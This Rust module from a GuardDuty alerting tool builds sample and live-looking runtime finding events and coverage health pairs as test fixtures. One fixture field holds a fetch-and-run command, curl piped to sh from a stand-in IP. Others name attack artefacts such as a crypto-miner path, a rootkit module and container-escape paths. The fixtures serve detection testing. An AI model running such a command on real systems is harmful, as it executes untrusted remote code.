//! Realistic sample events: every runtime finding type on ECS Fargate, EKS
//! and EC2, plus Unhealthy/Healthy pairs. Findings are marked as samples the
//! way GuardDuty marks its own (`service.additionalInfo.sample: true` and a
//! `[SAMPLE]` title), so a default route never alerts on them.
//!
//! Deterministic: the same binary always writes the same events, so they can
//! be diffed and used as fixtures.

use serde_json::{json, Value};

use crate::catalogue::{DefaultSeverity, RUNTIME_FINDING_KINDS};

const ACCOUNT: &str = "111122223333";
const REGION: &str = "eu-west-1";
const DETECTOR: &str = "12abc34d567e8fa901bc2d34e56789f0";
const TIME: &str = "2026-11-20T10:10:03.512Z";

/// A stable 32-hex-digit id from text (FNV-1a, twice).
fn id_of(text: &str) -> String {
    let mut a: u64 = 0xcbf2_9ce4_8422_2325;
    let mut b: u64 = 0x8422_2325_cbf2_9ce4;
    for byte in text.bytes() {
        a = (a ^ u64::from(byte)).wrapping_mul(0x100_0000_01b3);
        b = (b ^ u64::from(byte))
            .wrapping_mul(0x100_0000_01b3)
            .rotate_left(5);
    }
    format!("{a:016x}{b:016x}")
}

fn envelope(id: &str, detail_type: &str, detail: Value) -> Value {
    json!({
        "version": "0",
        "id": format!("{}-{}-{}-{}-{}", &id[0..8], &id[8..12], &id[12..16], &id[16..20], &id[20..32]),
        "detail-type": detail_type,
        "source": "aws.guardduty",
        "account": ACCOUNT,
        "time": "2026-11-20T10:10:05Z",
        "region": REGION,
        "resources": [],
        "detail": detail,
    })
}

fn resource(platform: &str) -> Value {
    match platform {
        "fargate" => json!({
            "resourceType": "ECSCluster",
            "ecsClusterDetails": {
                "name": "payments-prod",
                "arn": format!("arn:aws:ecs:{REGION}:{ACCOUNT}:cluster/payments-prod"),
                "status": "ACTIVE",
                "taskDetails": {
                    "arn": format!("arn:aws:ecs:{REGION}:{ACCOUNT}:task/payments-prod/4b9f2c1e7a3d4e5f8a6b7c8d9e0f1a2b"),
                    "definitionArn": format!("arn:aws:ecs:{REGION}:{ACCOUNT}:task-definition/checkout:42"),
                    "version": "42",
                    "group": "service:checkout",
                    "launchType": "FARGATE",
                    "containers": [{"containerRuntime": "containerd", "id": "4b9f2c1e-checkout", "name": "checkout", "image": format!("{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com/checkout:1.8.3")}]
                }
            },
            "containerDetails": {"containerRuntime": "containerd", "id": "4b9f2c1e-checkout", "name": "checkout", "image": format!("{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com/checkout:1.8.3")}
        }),
        "eks" => json!({
            "resourceType": "EKSCluster",
            "eksClusterDetails": {"name": "platform-eks", "arn": format!("arn:aws:eks:{REGION}:{ACCOUNT}:cluster/platform-eks"), "vpcId": "vpc-0a1b2c3d", "status": "ACTIVE"},
            "kubernetesDetails": {"kubernetesWorkloadDetails": {"name": "api-7d9c", "type": "pods", "uid": "6a1f0c2e", "namespace": "web", "containers": [{"name": "api", "image": "ghcr.io/example/api:2.1.0"}]}},
            "containerDetails": {"containerRuntime": "containerd", "id": "9c8b7a6d5e4f", "name": "api", "image": "ghcr.io/example/api:2.1.0"}
        }),
        _ => json!({
            "resourceType": "Instance",
            "instanceDetails": {"instanceId": "i-0a1b2c3d4e5f60718", "instanceType": "m6i.large", "imageId": "ami-0abcdef1234567890", "tags": [{"key": "team", "value": "batch"}]}
        }),
    }
}

/// The process and context a finding of this type would show.
fn runtime(finding_type: &str) -> (Value, Value) {
    let (name, path, context) = match finding_type {
        t if t.contains("ReverseShell") => ("bash", "/bin/bash", json!({})),
        t if t.contains("CryptoMiner") || t.contains("BitcoinTool") => {
            ("xmrig", "/tmp/.cache/xmrig", json!({}))
        }
        t if t.contains("DockerSocket") => (
            "curl",
            "/usr/bin/curl",
            json!({"socketPath": "/var/run/docker.sock"}),
        ),
        t if t.contains("NewBinaryExecuted") => (
            "payload",
            "/tmp/payload",
            json!({"modifiedAt": "2026-11-20T10:00:58Z"}),
        ),
        t if t.contains("NewLibraryLoaded") => (
            "python3",
            "/usr/bin/python3",
            json!({"libraryPath": "/tmp/libhook.so"}),
        ),
        t if t.contains("MaliciousFileExecuted") => (
            "dropper",
            "/tmp/dropper",
            json!({"threatFilePath": "/tmp/dropper"}),
        ),
        t if t.contains("SuspiciousTool") => (
            "nmap",
            "/usr/bin/nmap",
            json!({"toolName": "nmap", "toolCategory": "Network scanner"}),
        ),
        t if t.contains("SuspiciousCommand") => (
            "sh",
            "/bin/sh",
            json!({"commandLineExample": "sh -c 'curl -s http://203.0.113.7/x.sh | sh'"}),
        ),
        t if t.contains("ContainerMountsHostDirectory") => (
            "mount",
            "/usr/bin/mount",
            json!({"mountSource": "/dev/nvme0n1p1", "mountTarget": "/mnt/host"}),
        ),
        t if t.contains("CGroupsReleaseAgent") => (
            "sh",
            "/bin/sh",
            json!({"releaseAgentPath": "/sys/fs/cgroup/rdma/release_agent"}),
        ),
        t if t.contains("RuncContainerEscape") => (
            "runc-exploit",
            "/tmp/runc-exploit",
            json!({"runcBinaryPath": "/usr/bin/runc"}),
        ),
        t if t.contains("KernelModuleLoaded") => (
            "insmod",
            "/usr/sbin/insmod",
            json!({"moduleName": "diamorphine", "moduleFilePath": "/tmp/diamorphine.ko"}),
        ),
        t if t.contains("ProcessInjection") || t.contains("MemoryDump") => (
            "gdb",
            "/usr/bin/gdb",
            json!({"targetProcess": {"name": "java", "pid": 1}}),
        ),
        _ => ("python3", "/usr/bin/python3", json!({})),
    };
    let process = json!({
        "name": name,
        "executablePath": path,
        "executableSha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "pid": 4242, "namespacePid": 17, "pwd": "/app", "user": "root", "userId": 0, "euid": 0,
        "uuid": "0c1e7a1e-5d8e-4c5e-9d8b-0b1c2d3e4f50",
        "startTime": "2026-11-20T10:01:11.000Z",
        "lineage": [{"name": "node", "executablePath": "/usr/local/bin/node", "pid": 4200, "userId": 0, "euid": 0, "namespacePid": 9}]
    });
    (process, context)
}

fn action(finding_type: &str) -> Option<Value> {
    let domain = if finding_type.contains("BitcoinTool") || finding_type.contains("Bitcoin") {
        "pool.sample-miner.example"
    } else if finding_type.contains("Phishing") {
        "login-update.sample-phish.example"
    } else if finding_type.contains("DGA") {
        "xq3kz9v1p0.example"
    } else if finding_type.contains("MetadataDNSRebind") {
        "169.254.169.254.sample-rebind.example"
    } else {
        "c2.sample-threat.example"
    };
    if finding_type.ends_with("!DNS")
        || finding_type.contains("DomainRequest")
        || finding_type.contains("MetadataDNSRebind")
    {
        return Some(
            json!({"actionType": "DNS_REQUEST", "dnsRequestAction": {"domain": domain, "protocol": "UDP", "blocked": false}}),
        );
    }
    if [
        "C&CActivity.B",
        "BitcoinTool.B",
        "TorRelay",
        "TorClient",
        "BlackholeTraffic",
        "DropPoint",
    ]
    .iter()
    .any(|t| finding_type.ends_with(t))
    {
        return Some(
            json!({"actionType": "NETWORK_CONNECTION", "networkConnectionAction": {
                "connectionDirection": "OUTBOUND", "protocol": "TCP", "blocked": false,
                "remoteIpDetails": {"ipAddressV4": "198.51.100.23", "country": {"countryName": "Example"}},
                "remotePortDetails": {"port": 443, "portName": "HTTPS"}
            }}),
        );
    }
    None
}

/// One sample finding event of `finding_type` on `platform` (`fargate`, `eks`, `ec2`).
pub fn sample_finding(finding_type: &str, severity: f64, platform: &str) -> Value {
    let id = id_of(&format!("{finding_type}|{platform}"));
    let (process, context) = runtime(finding_type);
    let mut service = json!({
        "serviceName": "guardduty",
        "detectorId": DETECTOR,
        "featureName": "RuntimeMonitoring",
        "runtimeDetails": {"process": process, "context": context},
        "additionalInfo": {"value": "{\"sample\":true}", "type": "default", "sample": true},
        "eventFirstSeen": "2026-11-20T10:01:12.000Z",
        "eventLastSeen": "2026-11-20T10:09:40.000Z",
        "archived": false,
        "count": 1,
    });
    if let Some(action) = action(finding_type) {
        service["action"] = action;
    }
    let detail = json!({
        "schemaVersion": "2.0",
        "accountId": ACCOUNT,
        "region": REGION,
        "partition": "aws",
        "id": id,
        "arn": format!("arn:aws:guardduty:{REGION}:{ACCOUNT}:detector/{DETECTOR}/finding/{id}"),
        "type": finding_type,
        "resource": resource(platform),
        "service": service,
        "severity": severity,
        "createdAt": TIME,
        "updatedAt": TIME,
        "title": format!("[SAMPLE] {finding_type} on {platform}"),
        "description": format!("[SAMPLE] A sample {finding_type} finding generated by gdalert."),
    });
    envelope(&id, "GuardDuty Finding", detail)
}

/// An Unhealthy then Healthy pair for one resource.
pub fn coverage_pair(platform: &str) -> [Value; 2] {
    let resource = match platform {
        "fargate" => {
            json!({"resourceType": "ECS", "ecsClusterDetails": {"clusterName": "payments-prod", "fargateDetails": {"issues": ["VPC endpoint creation failed : The GuardDuty VPC endpoint could not be created in vpc-0a1b2c3d"], "managementType": "AUTO_MANAGED"}}})
        }
        "eks" => {
            json!({"resourceType": "EKS", "eksClusterDetails": {"clusterName": "platform-eks", "addonDetails": {"addonVersion": "v1.6.1-eksbuild.1", "addonStatus": "DEGRADED"}}})
        }
        _ => {
            json!({"resourceType": "EC2", "ec2InstanceDetails": {"instanceId": "i-0a1b2c3d4e5f60718", "instanceType": "m6i.large", "agentDetails": {"version": "1.6.0"}, "managementType": "AUTO_MANAGED"}})
        }
    };
    let issue = match platform {
        "eks" => "Addon degraded : The GuardDuty add-on reports a degraded status",
        "ec2" => "No agent reporting : The security agent has not reported for 30 minutes",
        _ => "",
    };
    let make = |healthy: bool, time: &str| {
        let id = id_of(&format!("coverage|{platform}|{healthy}"));
        let (previous, current, detail_type) = if healthy {
            (
                "Unhealthy",
                "Healthy",
                "GuardDuty Runtime Protection Healthy",
            )
        } else {
            (
                "Healthy",
                "Unhealthy",
                "GuardDuty Runtime Protection Unhealthy",
            )
        };
        let mut event = envelope(
            &id,
            detail_type,
            json!({
                "accountId": ACCOUNT,
                "resourceDetails": resource,
                "previousStatus": previous,
                "currentStatus": current,
                "issue": if healthy { "" } else { issue },
                "lastUpdatedAt": time,
            }),
        );
        event["time"] = json!(time);
        event
    };
    [
        make(false, "2026-11-20T09:00:00Z"),
        make(true, "2026-11-20T10:30:00Z"),
    ]
}

/// Every sample: each runtime type on each platform, then the coverage pairs.
pub fn all() -> Vec<(String, Value)> {
    let mut out = Vec::new();
    for kind in RUNTIME_FINDING_KINDS {
        let severity = match kind.default_severity {
            DefaultSeverity::Fixed(s) => s,
            DefaultSeverity::Variable => 5.0,
        };
        for platform in ["fargate", "eks", "ec2"] {
            let slug: String = kind
                .finding_type
                .chars()
                .map(|c| {
                    if c.is_ascii_alphanumeric() {
                        c.to_ascii_lowercase()
                    } else {
                        '-'
                    }
                })
                .collect();
            out.push((
                format!("sample-{slug}-{platform}.json"),
                sample_finding(kind.finding_type, severity, platform),
            ));
        }
    }
    for platform in ["fargate", "eks", "ec2"] {
        let [unhealthy, healthy] = coverage_pair(platform);
        out.push((
            format!("sample-coverage-{platform}-1-unhealthy.json"),
            unhealthy,
        ));
        out.push((
            format!("sample-coverage-{platform}-2-healthy.json"),
            healthy,
        ));
    }
    out
}

/// A finding as a live account would publish it: [`sample_finding`] without
/// GuardDuty's sample markers, so the built-in routes treat it as real.
pub fn live_finding(finding_type: &str, severity: f64, platform: &str) -> Value {
    let mut event = sample_finding(finding_type, severity, platform);
    let detail = &mut event["detail"];
    if let Some(info) = detail["service"]["additionalInfo"].as_object_mut() {
        info.remove("sample");
        info.insert("value".into(), json!("{}"));
    }
    for field in ["title", "description"] {
        if let Some(text) = detail[field].as_str() {
            let text = text
                .trim_start_matches("[SAMPLE] ")
                .replace(" generated by gdalert", "");
            detail[field] = json!(text);
        }
    }
    event
}

/// Payloads for invoking each function locally (`events/` at the top of the
/// repository, for `cargo lambda invoke --data-file` and `sam local invoke
/// -e`), as (path under `events/`, payload): a runtime finding per
/// platform, Unhealthy then Healthy, and the digest's scheduled invocation
/// (EventBridge Scheduler with no input; the digest reads no payload). The
/// attack sequence comes from the shipped fixtures and is added by the CLI.
pub fn invoke_events() -> Vec<(String, Value)> {
    let mut out = vec![
        (
            "finding-alerts/runtime-ecs-fargate-c2.json".to_string(),
            live_finding("Backdoor:Runtime/C&CActivity.B", 8.0, "fargate"),
        ),
        (
            "finding-alerts/runtime-eks-reverse-shell.json".to_string(),
            live_finding("Execution:Runtime/ReverseShell", 8.0, "eks"),
        ),
        (
            "finding-alerts/runtime-ec2-cryptominer.json".to_string(),
            live_finding("Impact:Runtime/CryptoMinerExecuted", 8.0, "ec2"),
        ),
        (
            "finding-alerts/sample-finding.json".to_string(),
            sample_finding("Execution:Runtime/NewBinaryExecuted", 2.0, "fargate"),
        ),
    ];
    let [unhealthy, healthy] = coverage_pair("fargate");
    out.push((
        "coverage-alerts/1-unhealthy-ecs-fargate.json".to_string(),
        unhealthy,
    ));
    out.push((
        "coverage-alerts/2-healthy-ecs-fargate.json".to_string(),
        healthy,
    ));
    out.push(("alert-digest/scheduled.json".to_string(), json!({})));
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_sample_parses_and_findings_are_marked_as_samples() {
        let samples = all();
        assert_eq!(samples.len(), RUNTIME_FINDING_KINDS.len() * 3 + 6);
        let mut ids = std::collections::BTreeSet::new();
        for (name, event) in &samples {
            let parsed = gdalert_event::GuardDutyEvent::from_value(event.clone())
                .unwrap_or_else(|e| panic!("{name}: {e}"));
            assert!(ids.insert(parsed.id.clone()), "{name}: duplicate event id");
            if let Some(finding) = parsed.finding() {
                assert!(finding.is_sample(), "{name}");
                assert!(finding.is_runtime(), "{name}");
            } else {
                assert!(parsed.coverage().is_some(), "{name}");
            }
        }
    }
}
